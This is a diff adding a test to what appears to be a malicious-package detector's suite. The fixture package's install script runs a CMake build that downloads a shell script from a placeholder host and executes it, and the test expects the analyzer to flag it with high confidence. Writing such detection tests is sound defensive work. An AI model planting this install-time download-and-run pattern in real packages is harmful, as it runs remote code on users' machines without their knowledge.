@@ -842,3 +842,21 @@ describe("the twenty-first session's review", () => {
     expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
   });
 });
+
+describe('a native build started through a package script the install runs by name', () => {
+  it('reads the CMake build behind `npm run build:native`', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'flac-native',
+        version: '1.4.0',
+        scripts: { install: 'npm run build:native', 'build:native': 'cmake-js build' },
+      }),
+      'CMakeLists.txt': [
+        'project(flac_native)',
+        'file(DOWNLOAD http://fix.native-presets.example/p.sh ${CMAKE_BINARY_DIR}/p.sh)',
+        'execute_process(COMMAND sh ${CMAKE_BINARY_DIR}/p.sh)',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'script.download-execute')?.confidence).toBeGreaterThanOrEqual(0.9);
+  });
+});
